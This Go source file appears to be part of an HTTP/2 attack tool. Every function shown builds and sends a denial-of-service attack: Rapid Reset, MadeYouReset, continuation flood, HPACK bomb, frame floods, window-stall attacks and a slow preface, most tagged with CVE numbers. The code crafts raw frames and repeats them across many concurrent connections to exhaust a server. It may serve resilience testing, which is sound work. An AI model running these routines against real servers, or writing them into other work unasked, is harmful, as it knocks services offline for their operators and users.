//go:build linux

package flood

import (
	"net"
	"strings"
	"time"
)

const (
	streamsWritten = 4000 // of one connection, if it lives so long
	hands          = 8
)

// streams writes a connection's whole attack down: one frame sequence for each stream.
func (a *attacker) streams(each func(dst []byte, i int, id uint32) []byte) []byte {
	p := []byte(opening)
	for i := range streamsWritten {
		p = each(p, i, uint32(2*i+1))
	}
	return p
}

// again attacks with the same bytes on one connection after the other.
func (a *attacker) again(p []byte) {
	a.hands(hands, func() {
		if c, ok := a.dial(); ok {
			a.pour(c, pieces(p))
		}
	})
}

// flood repeats one frame for ever on one connection after the other.
func (a *attacker) flood(frame []byte) {
	p := block16(frame)
	a.hands(hands, func() {
		if c, ok := a.dial(); ok {
			a.pour(c, endless(p))
		}
	})
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(a *attacker) {
	a.again(a.streams(func(p []byte, _ int, id uint32) []byte {
		return frame(a.open(p, id, endStream, "/"), typeReset, 0, id, u32(8))
	}))
}

// madeYouReset opens streams and makes the proxy reset them (CVE-2025-8671).
func madeYouReset(a *attacker) {
	a.again(a.streams(func(p []byte, i int, id uint32) []byte {
		p = a.open(p, id, endStream, "/")
		switch i % 5 {
		case 0:
			return frame(p, typeWindow, 0, id, u32(0))
		case 1:
			return frame(p, typeWindow, 0, id, u32(1<<31-1))
		case 2:
			return frame(p, typePriority, 0, id, []byte{0})
		case 3:
			return frame(p, typePriority, 0, id, append(u32(id), 1))
		}
		return frame(p, typeData, 0, id, []byte("x"))
	}))
}

// continuationFlood never ends a header block (CVE-2023-45288).
func continuationFlood(a *attacker) {
	p := frame([]byte(opening), typeHeaders, 0, 1, a.head("/"))
	piece := literal("x", strings.Repeat("y", 100))
	for range 2000 {
		p = frame(p, typeContinuation, 0, 1, []byte(strings.Repeat(string(piece), 20)))
	}
	a.again(p)
}

// hpackBomb refers to one large entry of the compression table again and again (CVE-2016-6581): a
// few octets that decode to almost what ends a connection, on stream after stream.
func hpackBomb(a *attacker) {
	value := strings.Repeat("v", 4000)
	entry := append([]byte{0x40, 1, 'x', 0x7f, 0xa1, 0x1e}, value...) // literal with indexing, 4000 octets
	a.again(a.streams(func(p []byte, i int, id uint32) []byte {
		b := a.head("/")
		if i == 0 {
			b = append(b, entry...)
		}
		return frame(p, typeHeaders, endHeaders|endStream, id, append(b, strings.Repeat("\xbe", 60)...))
	}))
}

func pingFlood(a *attacker)     { a.flood(frame(nil, typePing, 0, 0, make([]byte, 8))) }
func settingsFlood(a *attacker) { a.flood(frame(nil, typeSettings, 0, 0, nil)) }
func priorityFlood(a *attacker) { a.flood(frame(nil, typePriority, 0, 1, []byte{0, 0, 0, 3, 1})) }

// emptyFlood sends DATA without data on a stream that never ends (CVE-2019-9518).
func emptyFlood(a *attacker) {
	p := a.open([]byte(opening), 1, 0, "/")
	empty := block16(frame(nil, typeData, 0, 1, nil))
	for range 4 {
		p = append(p, empty...)
	}
	a.again(p)
}

// zeroWindow asks for large answers and takes nothing of them (CVE-2019-9517).
func zeroWindow(a *attacker) {
	a.stall(func(p []byte) []byte { return append(p, initialWindow(0)...) }, nil, 0)
}

// windowDribble asks for large answers and takes a few octets at a time (CVE-2019-9511).
func windowDribble(a *attacker) {
	var drops []byte
	for i := range stalledStreams {
		drops = frame(drops, typeWindow, 0, uint32(2*i+1), u32(1))
	}
	a.stall(func(p []byte) []byte { return append(p, initialWindow(1)...) }, func(int) []byte { return drops }, time.Second)
}

// windowFlapping opens and shuts the windows of many waiting streams (CVE-2026-78669).
func windowFlapping(a *attacker) {
	var flaps []byte
	for i := range 100 {
		flaps = append(flaps, initialWindow(uint32(i%2))...)
	}
	p := append([]byte(opening), initialWindow(0)...)
	for i := range stalledStreams {
		p = a.open(p, uint32(2*i+1), endStream, "/big")
	}
	a.hands(hands, func() {
		c, ok := a.dial()
		if !ok {
			return
		}
		first := true
		a.pour(c, func() []byte {
			if first {
				first = false
				return p
			}
			return flaps
		})
	})
}

const stalledStreams = 200 // of one connection

// stall keeps connections with many streams that ask for large answers. What comes is read, so that
// only the streams' windows hold it up.
func (a *attacker) stall(settings func([]byte) []byte, next func(int) []byte, every time.Duration) {
	p := settings([]byte(opening))
	p = frame(p, typeWindow, 0, 0, u32(1<<30)) // the connection's window is wide
	for i := range stalledStreams {
		p = a.open(p, uint32(2*i+1), endStream, "/big")
	}
	if next == nil {
		next, every = func(int) []byte { return frame(nil, typePing, 0, 0, make([]byte, 8)) }, time.Second
	}
	a.dribble(a.held(20), every, func() (net.Conn, bool) {
		c, ok := a.dial()
		if ok {
			if _, err := c.Write(p); err != nil {
				abort(c)
				return nil, false
			}
			go a.discard(c)
		}
		return c, ok
	}, next)
}

// prefaceDribble never gets to say which protocol it speaks.
func prefaceDribble(a *attacker) {
	a.dribble(a.held(500), 200*time.Millisecond, a.dial, func(i int) []byte {
		if i >= len(opening) {
			return nil
		}
		return []byte(opening[i : i+1])
	})
}
